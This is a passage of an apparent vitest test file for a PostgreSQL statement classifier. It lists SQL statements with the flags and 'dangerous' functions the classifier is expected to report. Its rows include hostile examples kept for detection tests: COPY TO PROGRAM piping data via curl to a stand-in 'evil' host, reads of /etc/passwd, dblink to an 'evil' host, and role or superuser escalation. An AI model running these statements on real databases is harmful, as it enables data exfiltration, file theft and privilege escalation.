// classify(): a table of real statements covering every kind and flag, the tricky places where
// danger hides (CTEs, subqueries, DEFAULTs, arguments), and texts that must fail closed.
import { beforeAll, describe, expect, it } from 'vitest';
import { blankLiterals } from '../../src/sql/parser.js';
import {
  classify,
  initSqlParser,
  SqlClassifier,
  STATEMENT_KINDS,
  type StatementFlags,
  type StatementInfo,
  type StatementKind,
} from '../../src/sql/index.js';

beforeAll(async () => {
  await initSqlParser();
});

interface Row {
  sql: string;
  kind: StatementKind;
  tag: string;
  readOnly?: boolean;
  /** Flags expected true; every other flag must be false. */
  flags?: Partial<StatementFlags>;
  /** Relations as "access name" (schema-qualified when written so), in order; exact. */
  rel?: string[];
  dangerous?: string[];
  functions?: string[];
  ddl?: { objectType: string; objects: string[] };
  targetName?: string;
}

const NO_FLAGS: StatementFlags = {
  noWhere: false,
  dataModifyingCte: false,
  privilegeChange: false,
  sessionEscape: false,
  alterSystem: false,
  doBlock: false,
  copyProgram: false,
  copyToFile: false,
  copyFromFile: false,
};

const ROWS: Row[] = [
  // --- queries -------------------------------------------------------------------------------
  { sql: 'SELECT 1', kind: 'select', tag: 'SELECT', readOnly: true, rel: [], functions: [] },
  { sql: 'select id, email from customers where id = $1', kind: 'select', tag: 'SELECT', readOnly: true, rel: ['read customers'] },
  { sql: 'SELECT * FROM public.customers c JOIN orders o ON o.customer_id = c.id', kind: 'select', tag: 'SELECT', readOnly: true, rel: ['read public.customers', 'read orders'] },
  { sql: 'SELECT "Full Name" FROM "Weird Schema"."My Table"', kind: 'select', tag: 'SELECT', readOnly: true, rel: ['read Weird Schema.My Table'] },
  { sql: 'SELECT * FROM shop.public.customers', kind: 'select', tag: 'SELECT', readOnly: true, rel: ['read shop.public.customers'] },
  { sql: 'VALUES (1, 2), (3, 4)', kind: 'select', tag: 'SELECT', readOnly: true, rel: [] },
  { sql: 'TABLE customers', kind: 'select', tag: 'SELECT', readOnly: true, rel: ['read customers'] },
  { sql: 'SELECT lower(email), count(*) FROM customers GROUP BY 1', kind: 'select', tag: 'SELECT', readOnly: true, functions: ['lower', 'count'] },
  { sql: 'SELECT extract(year from now()), substring(email from 2 for 3) FROM customers', kind: 'select', tag: 'SELECT', readOnly: true, functions: ['extract', 'now', 'substring'] },
  { sql: 'SELECT myschema.score(c) FROM customers c', kind: 'select', tag: 'SELECT', readOnly: false, functions: ['myschema.score'], rel: ['read customers'] },
  { sql: "SELECT nextval('orders_id_seq')", kind: 'select', tag: 'SELECT', readOnly: false, functions: ['nextval'] },
  { sql: 'SELECT * FROM customers FOR UPDATE', kind: 'select', tag: 'SELECT', readOnly: false, rel: ['read customers', 'lock customers'] },
  { sql: 'SELECT * FROM customers c JOIN orders o ON o.customer_id = c.id FOR SHARE OF o', kind: 'select', tag: 'SELECT', readOnly: false, rel: ['read customers', 'read orders', 'lock orders'] },
  { sql: 'WITH x AS (SELECT * FROM customers) SELECT * FROM x', kind: 'select', tag: 'SELECT', readOnly: true, rel: ['read customers'] },
  { sql: 'WITH customers AS (SELECT * FROM customers) SELECT * FROM customers', kind: 'select', tag: 'SELECT', readOnly: true, rel: ['read customers'] },
  { sql: 'WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r', kind: 'select', tag: 'SELECT', readOnly: true, rel: [] },
  { sql: 'WITH a AS (SELECT 1) SELECT * FROM a, public.a', kind: 'select', tag: 'SELECT', readOnly: true, rel: ['read public.a'] },
  {
    sql: 'WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d',
    kind: 'select', tag: 'SELECT', readOnly: false, flags: { dataModifyingCte: true, noWhere: true }, rel: ['delete orders'],
  },
  {
    sql: "WITH u AS (UPDATE customers SET notes = 'x' WHERE id = 1 RETURNING id) SELECT * FROM u",
    kind: 'select', tag: 'SELECT', readOnly: false, flags: { dataModifyingCte: true }, rel: ['update customers'],
  },
  {
    sql: 'SELECT pg_terminate_backend(pid) FROM pg_stat_activity',
    kind: 'select', tag: 'SELECT', readOnly: false, dangerous: ['pg_terminate_backend'], rel: ['read pg_stat_activity'],
  },
  { sql: 'SELECT pg_catalog.pg_cancel_backend(42)', kind: 'select', tag: 'SELECT', readOnly: false, dangerous: ['pg_catalog.pg_cancel_backend'] },
  {
    sql: "select * from t where x in (select lo_export(1, '/tmp/out'))",
    kind: 'select', tag: 'SELECT', readOnly: false, dangerous: ['lo_export'], rel: ['read t'],
  },
  { sql: "SELECT pg_read_file('/etc/passwd')", kind: 'select', tag: 'SELECT', readOnly: false, dangerous: ['pg_read_file'] },
  { sql: "SELECT pg_read_binary_file('postgresql.conf')", kind: 'select', tag: 'SELECT', readOnly: false, dangerous: ['pg_read_binary_file'] },
  { sql: "SELECT * FROM pg_ls_dir('.')", kind: 'select', tag: 'SELECT', readOnly: false, dangerous: ['pg_ls_dir'] },
  { sql: "SELECT pg_stat_file('base')", kind: 'select', tag: 'SELECT', readOnly: false, dangerous: ['pg_stat_file'] },
  { sql: "SELECT lo_import('/etc/hosts')", kind: 'select', tag: 'SELECT', readOnly: false, dangerous: ['lo_import'] },
  { sql: "SELECT lo_from_bytea(0, '\\x00')", kind: 'select', tag: 'SELECT', readOnly: false, dangerous: ['lo_from_bytea'] },
  { sql: "SELECT * FROM dblink('host=evil', 'select 1') AS t(x int)", kind: 'select', tag: 'SELECT', readOnly: false, dangerous: ['dblink'] },
  { sql: "SELECT dblink_exec('host=evil', 'drop table x')", kind: 'select', tag: 'SELECT', readOnly: false, dangerous: ['dblink_exec'] },
  { sql: 'SELECT pg_reload_conf(), pg_rotate_logfile()', kind: 'select', tag: 'SELECT', readOnly: false, dangerous: ['pg_reload_conf', 'pg_rotate_logfile'] },
  { sql: 'SELECT pg_sleep(3600)', kind: 'select', tag: 'SELECT', readOnly: false, dangerous: ['pg_sleep'] },
  { sql: 'SELECT PG_SLEEP(1)', kind: 'select', tag: 'SELECT', readOnly: false, dangerous: ['pg_sleep'] },
  { sql: 'SELECT "pg_sleep"(1)', kind: 'select', tag: 'SELECT', readOnly: false, dangerous: ['pg_sleep'] },
  { sql: 'SELECT evil.pg_sleep(1)', kind: 'select', tag: 'SELECT', readOnly: false, dangerous: ['evil.pg_sleep'] },
  { sql: "SELECT query_to_xml('delete from orders', true, false, '')", kind: 'select', tag: 'SELECT', readOnly: false, dangerous: ['query_to_xml'] },
  { sql: "SELECT current_setting('search_path')", kind: 'select', tag: 'SELECT', readOnly: false, dangerous: [], functions: ['current_setting'] },
  {
    sql: 'SELECT id FROM customers WHERE id = (SELECT max(id) FROM orders WHERE amount > pg_sleep(1)::text::numeric)',
    kind: 'select', tag: 'SELECT', readOnly: false, dangerous: ['pg_sleep'],
  },
  {
    sql: "SELECT set_config('role', 'postgres', false)",
    kind: 'select', tag: 'SELECT', readOnly: false, flags: { sessionEscape: true }, dangerous: ['set_config'],
  },
  {
    sql: "SELECT set_config('SESSION_AUTHORIZATION', 'postgres', false)",
    kind: 'select', tag: 'SELECT', readOnly: false, flags: { sessionEscape: true }, dangerous: ['set_config'],
  },
  {
    sql: 'SELECT set_config($1, $2, false)',
    kind: 'select', tag: 'SELECT', readOnly: false, flags: { sessionEscape: true }, dangerous: ['set_config'],
  },
  { sql: "SELECT set_config('search_path', 'public', true)", kind: 'select', tag: 'SELECT', readOnly: false, dangerous: ['set_config'] },
  { sql: 'SELECT 1 /* DROP TABLE customers */ -- DELETE FROM orders', kind: 'select', tag: 'SELECT', readOnly: true, rel: [] },
  { sql: 'SELECT id INTO archive FROM customers', kind: 'create', tag: 'SELECT INTO', readOnly: false, rel: ['ddl archive', 'read customers'], ddl: { objectType: 'table', objects: ['archive'] } },

  // --- DML -------------------------------------------------------------------------------------
  { sql: "INSERT INTO orders (customer_id, placed_at, amount, status) VALUES (1, now(), 9.5, 'placed')", kind: 'insert', tag: 'INSERT', readOnly: false, rel: ['insert orders'] },
  { sql: 'INSERT INTO archive SELECT * FROM customers WHERE id < $1', kind: 'insert', tag: 'INSERT', readOnly: false, rel: ['insert archive', 'read customers'] },
  { sql: "INSERT INTO t (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET v = 'x'", kind: 'insert', tag: 'INSERT', readOnly: false, rel: ['insert t', 'update t'] },
  { sql: 'INSERT INTO t (id) VALUES (1) ON CONFLICT DO NOTHING', kind: 'insert', tag: 'INSERT', readOnly: false, rel: ['insert t'] },
  { sql: 'INSERT INTO t (v) VALUES ((SELECT pg_read_file($1)))', kind: 'insert', tag: 'INSERT', readOnly: false, dangerous: ['pg_read_file'] },
  { sql: "UPDATE customers SET notes = 'vip' WHERE id = 1", kind: 'update', tag: 'UPDATE', readOnly: false, rel: ['update customers'] },
  { sql: "UPDATE customers SET notes = 'everyone'", kind: 'update', tag: 'UPDATE', readOnly: false, flags: { noWhere: true }, rel: ['update customers'] },
  { sql: 'UPDATE customers SET notes = NULL WHERE true', kind: 'update', tag: 'UPDATE', readOnly: false, flags: { noWhere: true } },
  { sql: 'UPDATE customers SET notes = NULL WHERE 1 = 1', kind: 'update', tag: 'UPDATE', readOnly: false, flags: { noWhere: true } },
  { sql: 'UPDATE c SET notes = o.status FROM orders o WHERE o.customer_id = c.id', kind: 'update', tag: 'UPDATE', readOnly: false, rel: ['update c', 'read orders'] },
  { sql: 'UPDATE t SET (a, b) = (SELECT x, y FROM u WHERE u.id = t.id) WHERE t.id > 3', kind: 'update', tag: 'UPDATE', readOnly: false, rel: ['update t', 'read u'] },
  { sql: 'DELETE FROM orders WHERE id = $1', kind: 'delete', tag: 'DELETE', readOnly: false, rel: ['delete orders'] },
  { sql: 'DELETE FROM orders', kind: 'delete', tag: 'DELETE', readOnly: false, flags: { noWhere: true }, rel: ['delete orders'] },
  { sql: 'delete from "Orders" where current of cur1', kind: 'delete', tag: 'DELETE', readOnly: false, rel: ['delete Orders'] },
  { sql: 'DELETE FROM orders o USING customers c WHERE o.customer_id = c.id AND c.ssn IS NULL', kind: 'delete', tag: 'DELETE', readOnly: false, rel: ['delete orders', 'read customers'] },
  { sql: 'DELETE FROM orders WHERE id IN (SELECT id FROM orders LIMIT 3) RETURNING *', kind: 'delete', tag: 'DELETE', readOnly: false, rel: ['delete orders', 'read orders'] },
  {
    sql: 'WITH gone AS (DELETE FROM customers RETURNING *) INSERT INTO archive SELECT * FROM gone',
    kind: 'insert', tag: 'INSERT', readOnly: false, flags: { dataModifyingCte: true, noWhere: true }, rel: ['delete customers', 'insert archive'],
  },
  {
    sql: 'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v WHEN NOT MATCHED THEN INSERT (id, v) VALUES (s.id, s.v)',
    kind: 'merge', tag: 'MERGE', readOnly: false, rel: ['update t', 'insert t', 'read s'],
  },
  { sql: 'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE', kind: 'merge', tag: 'MERGE', readOnly: false, rel: ['delete t', 'read s'] },
  // A MERGE whose ON reads no column updates or deletes every target row, as does WHEN NOT MATCHED BY SOURCE.
  { sql: 'MERGE INTO t USING s ON 1 = 1 WHEN MATCHED THEN DELETE', kind: 'merge', tag: 'MERGE', readOnly: false, flags: { noWhere: true }, rel: ['delete t', 'read s'] },
  { sql: 'MERGE INTO t USING s ON true WHEN MATCHED THEN UPDATE SET v = 1', kind: 'merge', tag: 'MERGE', readOnly: false, flags: { noWhere: true } },
  { sql: 'MERGE INTO t USING s ON 1 = 1 WHEN MATCHED AND t.id = 7 THEN DELETE', kind: 'merge', tag: 'MERGE', readOnly: false },
  { sql: 'MERGE INTO t USING s ON 1 = 1 WHEN NOT MATCHED THEN INSERT (id) VALUES (1)', kind: 'merge', tag: 'MERGE', readOnly: false },
  { sql: 'MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE', kind: 'merge', tag: 'MERGE', readOnly: false, flags: { noWhere: true } },
  { sql: 'MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE AND t.v IS NULL THEN DELETE', kind: 'merge', tag: 'MERGE', readOnly: false },
  { sql: 'WITH x AS (SELECT 1) MERGE INTO t USING x ON $1 WHEN MATCHED THEN DELETE', kind: 'merge', tag: 'MERGE', readOnly: false, flags: { noWhere: true } },
  { sql: 'TRUNCATE orders, public.customers CASCADE', kind: 'truncate', tag: 'TRUNCATE TABLE', readOnly: false, rel: ['truncate orders', 'truncate public.customers'] },

  // --- COPY ------------------------------------------------------------------------------------
  { sql: 'COPY customers TO STDOUT', kind: 'copy', tag: 'COPY', readOnly: true, rel: ['copy customers'] },
  { sql: 'COPY customers (id, email) FROM STDIN WITH (FORMAT csv)', kind: 'copy', tag: 'COPY', readOnly: false, rel: ['copy customers'] },
  { sql: 'COPY (SELECT ssn FROM customers) TO STDOUT', kind: 'copy', tag: 'COPY', readOnly: true, rel: ['read customers'] },
  { sql: 'COPY (DELETE FROM orders RETURNING *) TO STDOUT', kind: 'copy', tag: 'COPY', readOnly: false, flags: { noWhere: true }, rel: ['delete orders'] },
  { sql: "COPY t TO PROGRAM 'curl -d @- http://evil'", kind: 'copy', tag: 'COPY', readOnly: false, flags: { copyProgram: true }, rel: ['copy t'] },
  { sql: "COPY t FROM PROGRAM 'cat /etc/passwd'", kind: 'copy', tag: 'COPY', readOnly: false, flags: { copyProgram: true } },
  { sql: "COPY customers TO '/tmp/customers.csv'", kind: 'copy', tag: 'COPY', readOnly: false, flags: { copyToFile: true } },
  { sql: "COPY customers FROM '/var/lib/postgresql/in.csv'", kind: 'copy', tag: 'COPY', readOnly: false, flags: { copyFromFile: true } },

  // --- DDL -------------------------------------------------------------------------------------
  { sql: 'CREATE TABLE audit (id int, at timestamptz DEFAULT now())', kind: 'create', tag: 'CREATE TABLE', readOnly: false, rel: ['ddl audit'], ddl: { objectType: 'table', objects: ['audit'] } },
  { sql: 'CREATE TABLE t (x int DEFAULT pg_sleep(10)::int)', kind: 'create', tag: 'CREATE TABLE', readOnly: false, dangerous: ['pg_sleep'] },
  { sql: 'CREATE TABLE s."Mixed Case" (LIKE customers)', kind: 'create', tag: 'CREATE TABLE', ddl: { objectType: 'table', objects: ['s."Mixed Case"'] }, rel: ['ddl s.Mixed Case', 'ddl customers'] },
  { sql: 'CREATE TEMP TABLE tmp AS SELECT email FROM customers', kind: 'create', tag: 'CREATE TABLE AS', readOnly: false, rel: ['ddl tmp', 'read customers'], ddl: { objectType: 'table', objects: ['tmp'] } },
  { sql: 'CREATE MATERIALIZED VIEW mv AS SELECT ssn FROM customers', kind: 'create', tag: 'CREATE MATERIALIZED VIEW', rel: ['ddl mv', 'read customers'], ddl: { objectType: 'materialized view', objects: ['mv'] } },
  { sql: 'CREATE VIEW v AS SELECT email FROM customers', kind: 'create', tag: 'CREATE VIEW', rel: ['ddl v', 'read customers'], ddl: { objectType: 'view', objects: ['v'] } },
  { sql: 'CREATE OR REPLACE VIEW v AS SELECT pg_read_file(\'x\')', kind: 'create', tag: 'CREATE VIEW', dangerous: ['pg_read_file'] },
  { sql: 'CREATE INDEX CONCURRENTLY idx_email ON customers (lower(email))', kind: 'create', tag: 'CREATE INDEX', rel: ['ddl customers'], ddl: { objectType: 'index', objects: ['idx_email'] } },
  { sql: 'CREATE SCHEMA reporting', kind: 'create', tag: 'CREATE SCHEMA', ddl: { objectType: 'schema', objects: ['reporting'] } },
  { sql: 'CREATE SCHEMA AUTHORIZATION alice', kind: 'create', tag: 'CREATE SCHEMA', flags: { privilegeChange: true } },
  { sql: 'CREATE SEQUENCE s1', kind: 'create', tag: 'CREATE SEQUENCE', ddl: { objectType: 'sequence', objects: ['s1'] } },
  { sql: 'CREATE EXTENSION IF NOT EXISTS dblink', kind: 'create', tag: 'CREATE EXTENSION', ddl: { objectType: 'extension', objects: ['dblink'] } },
  { sql: "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'", kind: 'create', tag: 'CREATE FUNCTION', ddl: { objectType: 'function', objects: ['f'] } },
  {
    sql: "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'select 1'",
    kind: 'create', tag: 'CREATE FUNCTION', flags: { privilegeChange: true },
  },
  { sql: 'CREATE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC SELECT pg_sleep(1); END', kind: 'create', tag: 'CREATE PROCEDURE', dangerous: ['pg_sleep'] },
  { sql: 'CREATE TRIGGER trg BEFORE INSERT ON orders FOR EACH ROW EXECUTE FUNCTION f()', kind: 'create', tag: 'CREATE TRIGGER', rel: ['ddl orders'], ddl: { objectType: 'trigger', objects: ['trg'] } },
  { sql: 'CREATE TYPE mood AS ENUM (\'sad\', \'ok\')', kind: 'create', tag: 'CREATE TYPE', ddl: { objectType: 'type', objects: ['mood'] } },
  { sql: 'CREATE DOMAIN posint AS int CHECK (VALUE > 0)', kind: 'create', tag: 'CREATE DOMAIN' },
  { sql: 'CREATE DATABASE other', kind: 'create', tag: 'CREATE DATABASE', ddl: { objectType: 'database', objects: ['other'] } },
  { sql: 'CREATE POLICY p ON customers USING (true)', kind: 'create', tag: 'CREATE POLICY', flags: { privilegeChange: true }, rel: ['ddl customers'] },
  { sql: "CREATE RULE r AS ON INSERT TO orders DO ALSO DELETE FROM customers", kind: 'create', tag: 'CREATE RULE', flags: { noWhere: true } },
  { sql: 'CREATE AGGREGATE myagg (int) (sfunc = int4pl, stype = int)', kind: 'create', tag: 'CREATE AGGREGATE' },
  { sql: "CREATE SERVER evil FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'x')", kind: 'create', tag: 'CREATE SERVER' },
  { sql: "CREATE USER MAPPING FOR alice SERVER evil OPTIONS (user 'x', password 'y')", kind: 'create', tag: 'CREATE USER MAPPING', flags: { privilegeChange: true } },
  { sql: 'ALTER TABLE customers ADD COLUMN tier text DEFAULT \'basic\'', kind: 'alter', tag: 'ALTER TABLE', rel: ['ddl customers'], ddl: { objectType: 'table', objects: ['customers'] } },
  { sql: 'ALTER TABLE customers OWNER TO mallory', kind: 'alter', tag: 'ALTER TABLE', flags: { privilegeChange: true } },
  { sql: 'ALTER TABLE customers DISABLE ROW LEVEL SECURITY', kind: 'alter', tag: 'ALTER TABLE', flags: { privilegeChange: true } },
  { sql: 'ALTER TABLE customers RENAME COLUMN ssn TO x', kind: 'alter', tag: 'ALTER TABLE', rel: ['ddl customers'], ddl: { objectType: 'column', objects: ['customers.ssn'] } },
  { sql: 'ALTER VIEW v RENAME TO w', kind: 'alter', tag: 'ALTER VIEW' },
  { sql: 'ALTER INDEX idx_email SET TABLESPACE fast', kind: 'alter', tag: 'ALTER INDEX' },
  { sql: 'ALTER FUNCTION f() SECURITY DEFINER', kind: 'alter', tag: 'ALTER FUNCTION', flags: { privilegeChange: true } },
  { sql: 'ALTER FUNCTION f() OWNER TO mallory', kind: 'alter', tag: 'ALTER FUNCTION', flags: { privilegeChange: true } },
  { sql: 'ALTER SCHEMA reporting RENAME TO rpt', kind: 'alter', tag: 'ALTER SCHEMA' },
  { sql: 'ALTER SEQUENCE s1 RESTART', kind: 'alter', tag: 'ALTER SEQUENCE', rel: ['ddl s1'] },
  { sql: 'ALTER DATABASE shop SET search_path = evil', kind: 'alter', tag: 'ALTER DATABASE' },
  { sql: 'REASSIGN OWNED BY alice TO mallory', kind: 'alter', tag: 'REASSIGN OWNED', flags: { privilegeChange: true } },
  { sql: 'DROP TABLE a, s."My T"', kind: 'drop', tag: 'DROP TABLE', rel: ['ddl a', 'ddl s.My T'], ddl: { objectType: 'table', objects: ['a', 's."My T"'] } },
  { sql: 'DROP VIEW IF EXISTS v CASCADE', kind: 'drop', tag: 'DROP VIEW', rel: ['ddl v'] },
  { sql: 'DROP INDEX idx_email', kind: 'drop', tag: 'DROP INDEX', rel: ['ddl idx_email'] },
  { sql: 'DROP FUNCTION f(int)', kind: 'drop', tag: 'DROP FUNCTION', ddl: { objectType: 'function', objects: ['f'] } },
  { sql: 'DROP SCHEMA reporting CASCADE', kind: 'drop', tag: 'DROP SCHEMA', ddl: { objectType: 'schema', objects: ['reporting'] } },
  { sql: 'DROP TRIGGER trg ON orders', kind: 'drop', tag: 'DROP TRIGGER', rel: ['ddl orders'] },
  { sql: 'DROP POLICY p ON customers', kind: 'drop', tag: 'DROP POLICY', flags: { privilegeChange: true }, rel: ['ddl customers'] },
  { sql: 'DROP DATABASE other', kind: 'drop', tag: 'DROP DATABASE' },
  { sql: 'DROP OWNED BY alice', kind: 'drop', tag: 'DROP OWNED', flags: { privilegeChange: true } },
  { sql: 'DROP EXTENSION dblink', kind: 'drop', tag: 'DROP EXTENSION' },

  // --- privileges and roles --------------------------------------------------------------------
  { sql: 'GRANT SELECT ON customers, s.t TO bob', kind: 'grant', tag: 'GRANT', flags: { privilegeChange: true }, rel: ['ddl customers', 'ddl s.t'], ddl: { objectType: 'table', objects: ['customers', 's.t'] } },
  { sql: 'GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC', kind: 'grant', tag: 'GRANT', flags: { privilegeChange: true }, rel: [] },
  { sql: 'REVOKE INSERT ON orders FROM bob', kind: 'revoke', tag: 'REVOKE', flags: { privilegeChange: true } },
  { sql: 'GRANT pg_read_server_files TO agent', kind: 'grant', tag: 'GRANT ROLE', flags: { privilegeChange: true }, ddl: { objectType: 'role', objects: ['pg_read_server_files'] } },
  { sql: 'REVOKE admin FROM agent', kind: 'revoke', tag: 'REVOKE ROLE', flags: { privilegeChange: true } },
  { sql: 'ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT SELECT ON TABLES TO bob', kind: 'grant', tag: 'ALTER DEFAULT PRIVILEGES', flags: { privilegeChange: true } },
  { sql: 'ALTER DEFAULT PRIVILEGES REVOKE EXECUTE ON FUNCTIONS FROM PUBLIC', kind: 'revoke', tag: 'ALTER DEFAULT PRIVILEGES', flags: { privilegeChange: true } },
  { sql: "CREATE ROLE agent LOGIN PASSWORD 'x'", kind: 'role', tag: 'CREATE ROLE', flags: { privilegeChange: true }, ddl: { objectType: 'role', objects: ['agent'] } },
  { sql: 'CREATE USER bob', kind: 'role', tag: 'CREATE ROLE', flags: { privilegeChange: true } },
  { sql: 'ALTER ROLE agent SUPERUSER', kind: 'role', tag: 'ALTER ROLE', flags: { privilegeChange: true } },
  { sql: 'ALTER USER agent SET role = admin', kind: 'role', tag: 'ALTER ROLE', flags: { privilegeChange: true } },
  { sql: 'DROP ROLE IF EXISTS agent', kind: 'role', tag: 'DROP ROLE', flags: { privilegeChange: true }, ddl: { objectType: 'role', objects: ['agent'] } },

  // --- session ---------------------------------------------------------------------------------
  { sql: "SET search_path = public, pg_catalog", kind: 'set', tag: 'SET', readOnly: true },
  { sql: 'SET LOCAL statement_timeout = 1000', kind: 'set', tag: 'SET', readOnly: true },
  { sql: 'SET TRANSACTION ISOLATION LEVEL SERIALIZABLE', kind: 'set', tag: 'SET', readOnly: true },
  { sql: 'SET ROLE admin', kind: 'set_role', tag: 'SET', readOnly: true, flags: { sessionEscape: true } },
  { sql: "SET role TO 'admin'", kind: 'set_role', tag: 'SET', flags: { sessionEscape: true } },
  { sql: 'SET ROLE NONE', kind: 'set_role', tag: 'SET', flags: { sessionEscape: true } },
  { sql: 'SET SESSION AUTHORIZATION postgres', kind: 'set_session_authorization', tag: 'SET', flags: { sessionEscape: true } },
  { sql: 'SET SESSION AUTHORIZATION DEFAULT', kind: 'set_session_authorization', tag: 'SET', flags: { sessionEscape: true } },
  { sql: 'RESET ROLE', kind: 'reset', tag: 'RESET', readOnly: true, flags: { sessionEscape: true } },
  { sql: 'RESET SESSION AUTHORIZATION', kind: 'reset', tag: 'RESET', flags: { sessionEscape: true } },
  { sql: 'RESET search_path', kind: 'reset', tag: 'RESET', readOnly: true },
  { sql: 'RESET ALL', kind: 'reset', tag: 'RESET', readOnly: true },
  { sql: 'SHOW search_path', kind: 'show', tag: 'SHOW', readOnly: true },
  { sql: 'SHOW ALL', kind: 'show', tag: 'SHOW', readOnly: true },
  { sql: 'ALTER SYSTEM SET max_connections = 5', kind: 'alter_system', tag: 'ALTER SYSTEM', readOnly: false, flags: { alterSystem: true } },
  { sql: 'ALTER SYSTEM RESET ALL', kind: 'alter_system', tag: 'ALTER SYSTEM', flags: { alterSystem: true } },
  { sql: 'DISCARD ALL', kind: 'discard', tag: 'DISCARD ALL', readOnly: true, flags: { sessionEscape: true } },
  { sql: 'DISCARD PLANS', kind: 'discard', tag: 'DISCARD PLANS', readOnly: true },
  { sql: 'DISCARD TEMP', kind: 'discard', tag: 'DISCARD TEMP', readOnly: true },

  // --- transactions ----------------------------------------------------------------------------
  { sql: 'BEGIN', kind: 'transaction', tag: 'BEGIN', readOnly: true, flags: { transactionControl: 'begin' } },
  { sql: 'BEGIN ISOLATION LEVEL REPEATABLE READ READ ONLY', kind: 'transaction', tag: 'BEGIN', flags: { transactionControl: 'begin' } },
  { sql: 'START TRANSACTION', kind: 'transaction', tag: 'START TRANSACTION', readOnly: true, flags: { transactionControl: 'start' } },
  { sql: 'COMMIT', kind: 'transaction', tag: 'COMMIT', readOnly: true, flags: { transactionControl: 'commit' } },
  { sql: 'END', kind: 'transaction', tag: 'COMMIT', flags: { transactionControl: 'commit' } },
  { sql: 'COMMIT AND CHAIN', kind: 'transaction', tag: 'COMMIT', flags: { transactionControl: 'commit' } },
  { sql: 'ROLLBACK', kind: 'transaction', tag: 'ROLLBACK', readOnly: true, flags: { transactionControl: 'rollback' } },
  { sql: 'ABORT', kind: 'transaction', tag: 'ROLLBACK', flags: { transactionControl: 'rollback' } },
  { sql: 'SAVEPOINT sp1', kind: 'transaction', tag: 'SAVEPOINT', readOnly: true, flags: { transactionControl: 'savepoint' } },
  { sql: 'RELEASE SAVEPOINT sp1', kind: 'transaction', tag: 'RELEASE', flags: { transactionControl: 'release' } },
  { sql: 'ROLLBACK TO SAVEPOINT sp1', kind: 'transaction', tag: 'ROLLBACK', flags: { transactionControl: 'rollback_to' } },
  { sql: "PREPARE TRANSACTION 'tx1'", kind: 'transaction', tag: 'PREPARE TRANSACTION', readOnly: false, flags: { transactionControl: 'prepare_transaction' } },
  { sql: "COMMIT PREPARED 'tx1'", kind: 'transaction', tag: 'COMMIT PREPARED', readOnly: false, flags: { transactionControl: 'commit_prepared' } },
  { sql: "ROLLBACK PREPARED 'tx1'", kind: 'transaction', tag: 'ROLLBACK PREPARED', readOnly: false, flags: { transactionControl: 'rollback_prepared' } },

  // --- procedural, prepared statements, cursors ------------------------------------------------
  { sql: "DO $$BEGIN PERFORM pg_sleep(1); END$$", kind: 'do', tag: 'DO', readOnly: false, flags: { doBlock: true }, dangerous: [] },
  { sql: "DO LANGUAGE plpgsql $body$ BEGIN EXECUTE 'DROP TABLE customers'; END $body$", kind: 'do', tag: 'DO', readOnly: false, flags: { doBlock: true } },
  { sql: 'CALL refresh_stats(1, $1)', kind: 'call', tag: 'CALL', readOnly: false, functions: ['refresh_stats'] },
  { sql: 'CALL admin.purge(pg_sleep(1))', kind: 'call', tag: 'CALL', readOnly: false, functions: ['admin.purge', 'pg_sleep'], dangerous: ['pg_sleep'] },
  { sql: 'EXPLAIN SELECT * FROM customers', kind: 'explain', tag: 'EXPLAIN', readOnly: true, rel: ['read customers'] },
  { sql: 'EXPLAIN (ANALYZE, BUFFERS) DELETE FROM orders', kind: 'explain', tag: 'EXPLAIN', readOnly: false, flags: { noWhere: true }, rel: ['delete orders'] },
  { sql: 'EXPLAIN (ANALYZE false) DELETE FROM orders WHERE id = 1', kind: 'explain', tag: 'EXPLAIN', readOnly: true, rel: ['delete orders'] },
  { sql: 'EXPLAIN ANALYZE SELECT pg_sleep(5)', kind: 'explain', tag: 'EXPLAIN', readOnly: false, dangerous: ['pg_sleep'] },
  { sql: 'PREPARE q (int) AS SELECT * FROM customers WHERE id = $1', kind: 'prepare', tag: 'PREPARE', readOnly: true, targetName: 'q', rel: ['read customers'] },
  { sql: 'PREPARE d AS DELETE FROM orders', kind: 'prepare', tag: 'PREPARE', readOnly: false, flags: { noWhere: true }, targetName: 'd' },
  { sql: 'EXECUTE q(1)', kind: 'execute', tag: 'EXECUTE', readOnly: false, targetName: 'q' },
  { sql: 'DEALLOCATE q', kind: 'deallocate', tag: 'DEALLOCATE', readOnly: true, targetName: 'q' },
  { sql: 'DEALLOCATE ALL', kind: 'deallocate', tag: 'DEALLOCATE ALL', readOnly: true },
  { sql: 'DECLARE c1 CURSOR WITH HOLD FOR SELECT email FROM customers', kind: 'declare_cursor', tag: 'DECLARE CURSOR', readOnly: true, targetName: 'c1', rel: ['read customers'] },
  { sql: 'FETCH 10 FROM c1', kind: 'fetch', tag: 'FETCH', readOnly: false, targetName: 'c1' },
  { sql: 'MOVE FORWARD 5 IN c1', kind: 'fetch', tag: 'MOVE', targetName: 'c1' },
  { sql: 'CLOSE c1', kind: 'close_cursor', tag: 'CLOSE CURSOR', readOnly: true, targetName: 'c1' },
  { sql: 'CLOSE ALL', kind: 'close_cursor', tag: 'CLOSE CURSOR ALL', readOnly: true },

  // --- notifications, maintenance, locks, comments ---------------------------------------------
  { sql: 'LISTEN orders_changed', kind: 'listen', tag: 'LISTEN', readOnly: true },
  { sql: "NOTIFY orders_changed, 'payload'", kind: 'notify', tag: 'NOTIFY', readOnly: false },
  { sql: 'UNLISTEN *', kind: 'unlisten', tag: 'UNLISTEN', readOnly: true },
  { sql: 'VACUUM (VERBOSE, ANALYZE) customers', kind: 'vacuum', tag: 'VACUUM', readOnly: false, rel: ['ddl customers'] },
  { sql: 'VACUUM FULL', kind: 'vacuum', tag: 'VACUUM', rel: [] },
  { sql: 'ANALYZE orders (amount)', kind: 'analyze', tag: 'ANALYZE', rel: ['ddl orders'] },
